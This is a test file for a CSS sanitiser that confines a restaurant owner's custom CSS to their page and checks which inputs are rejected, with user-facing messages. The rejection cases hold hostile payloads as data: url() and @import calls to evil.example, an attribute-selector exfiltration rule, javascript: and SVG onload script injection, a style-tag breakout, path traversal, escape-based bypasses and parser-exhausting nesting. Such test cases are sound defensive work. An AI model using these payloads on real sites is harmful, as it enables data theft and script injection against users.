import { describe, expect, test } from 'bun:test';
import { cleanCss, problemText } from './clean-css.ts';

const served = (css: string) => cleanCss(css).css.replace(/^@layer tenant\{(.*)\}$/s, '$1');

describe('an owner’s CSS', () => {
  test.each([
    ['h1{color:red}', `[data-part="page"] h1{color:red}`],
    ['body{margin:0}', `[data-part="page"]{margin:0}`],
    [':root .x>y{margin:0}', `[data-part="page"] .x>y{margin:0}`],
    ['> a{color:red}', `[data-part="page"]>a{color:red}`],
    [
      '@media (width > 40rem){.a,.b:hover{margin:0}}',
      `@media (width>40rem){[data-part="page"] .a,[data-part="page"] .b:hover{margin:0}}`,
    ],
    ['@keyframes in{from{opacity:0}to{opacity:1}}', '@keyframes in{from{opacity:0}to{opacity:1}}'],
    ['*{}', `[data-part="page"] *{}`],
    ['a{--brand:teal;color:var(--brand)}', `[data-part="page"] a{--brand:teal;color:var(--brand)}`],
    ['a::before{content:"\\201c"}', `[data-part="page"] a::before{content:"“"}`],
  ])('%p stays inside the page and behind our rules', (css, kept) => {
    expect(served(css)).toBe(kept);
    expect(cleanCss(css).css.startsWith('@layer tenant{')).toBe(true);
  });

  test('tells which of the restaurant’s pictures it shows', () => {
    const { imageIds, css } = cleanCss('h1{background:url(/images/img_1?w=400)}h2{background:url("/images/img_2")}');
    expect(imageIds).toEqual(['img_1', 'img_2']);
    expect(css).toContain('url(/images/img_1?w=400)');
  });

  test('nothing is served for nothing', () => {
    expect(cleanCss(' \n ')).toEqual({ css: '', problems: [], imageIds: [] });
    expect(cleanCss('/* later */').css).toBe('');
  });
});

describe('rejected, with its line:', () => {
  const PICTURE = 'Use url() with your own pictures only, such as url(/images/…).';
  const UNREADABLE = 'This can’t be read as CSS.';
  test.each<[string, string]>([
    ['+ p{display:none}', 'A selector can’t begin with +.'],
    ['~ *{display:none}', 'A selector can’t begin with ~.'],
    ['h1,~p{display:none}', 'A selector can’t begin with ~.'],
    ['body ~ p{display:none}', 'A selector can’t begin with ~.'],
    ['html body+p{display:none}', 'A selector can’t begin with +.'],
    [':root>body~p{display:none}', 'A selector can’t begin with ~.'],
    ['@media (width > 1px){:scope + p{display:none}}', 'A selector can’t begin with +.'],
    ["@import 'x.css';", '@import isn’t allowed.'],
    ['@import url(https://evil.example/x.css);', '@import isn’t allowed.'],
    ['@font-face{font-family:x;src:url(https://evil.example/x)}', '@font-face isn’t allowed.'],
    ['@layer utilities{a{color:red}}', '@layer isn’t allowed.'],
    ['@charset "utf-7";', '@charset isn’t allowed.'],
    ['@namespace x url(https://evil.example);', '@namespace isn’t allowed.'],
    ['@property --x{syntax:"*";inherits:false}', '@property isn’t allowed.'],
    ['a{background:url(https://evil.example/?leak)}', PICTURE],
    ['a{background:url(//evil.example/x)}', PICTURE],
    ['a{background:url("data:image/svg+xml,<svg onload=alert(1)>")}', PICTURE],
    ['a{background:url("javascript:alert(1)")}', PICTURE],
    ['a{background:url(javascript:alert(1))}', UNREADABLE],
    ['a{background:url(/images/../api/secret)}', PICTURE],
    ['a{background:url(/api/auth/sign-out)}', PICTURE],
    ['input[value^="a"]{background:url(https://evil.example/a)}', PICTURE],
    ['a{--x:url(https://evil.example)}', PICTURE],
    ['a{background:image-set("https://evil.example/x" 1x)}', 'image-set() isn’t allowed.'],
    ['a{background:-webkit-image-set(url(/images/a) 1x)}', '-webkit-image-set() isn’t allowed.'],
    ['a{width:expression(alert(1))}', 'expression() isn’t allowed.'],
    ['a{content:attr(value)}', 'attr() isn’t allowed.'],
    ['a{behavior:none}', 'behavior isn’t allowed.'],
    ['a{-moz-binding:none}', '-moz-binding isn’t allowed.'],
    ['a{position:fixed}', 'position can be static, relative or absolute.'],
    ['a{position:FIXED}', 'position can be static, relative or absolute.'],
    ['a{position:sticky}', 'position can be static, relative or absolute.'],
    ['a{--p:fixed;position:var(--p)}', 'position can be static, relative or absolute.'],
    ['a{z-index:9999}', 'z-index can be up to 10.'],
    ['a{z-index:calc(9999)}', 'z-index can be up to 10.'],
    ['a{color:red !important}', '!important isn’t needed: your CSS comes last.'],
    ['a{p\\6fsition:fixed}', 'Write names without a backslash.'],
    ['a{position:f\\69xed}', 'Write names without a backslash.'],
    ['a{background:u\\72l(https://evil.example)}', UNREADABLE],
    ['a{background:u\\72l("/x")}', 'Write names without a backslash.'],
    ["@\\69mport 'x.css';", 'Write names without a backslash.'],
    ['</style><script>alert(1)</script>', UNREADABLE],
    ['a{color:red;} }', UNREADABLE],
    ['a{b{color:red}}', UNREADABLE],
    ['a{&:hover{color:red}}', 'Write each selector in full, without &.'],
    [`${'a '.repeat(40)}{color:red}`, 'This selector is too long. Split it into several rules.'],
  ])('%p', (css, message) => {
    const { css: kept, problems } = cleanCss(css);
    expect(kept).toBe('');
    expect(problems.map((one) => one.message)).toContain(message);
  });

  test('each line by its number, and no more than five of them', () => {
    const { problems } = cleanCss('a{color:red}\n\nb{position:fixed}\nc{z-index:99}');
    expect(problems.map(({ line }) => line)).toEqual([3, 4]);
    expect(problemText(problems)).toBe(
      'Line 3: position can be static, relative or absolute. Line 4: z-index can be up to 10.',
    );
    const many = cleanCss('a{position:fixed}\n'.repeat(9)).problems;
    expect(problemText(many)).toEndWith('And 4 more.');
  });

  test('what can’t be parsed is rejected, however deeply it is nested', () => {
    for (const hostile of [
      '('.repeat(19_000),
      'a{'.repeat(9000),
      ':not('.repeat(4000),
      '[a'.repeat(9000),
      '/*'.repeat(9000),
    ]) {
      expect(cleanCss(hostile).css).toBe('');
    }
  });
});
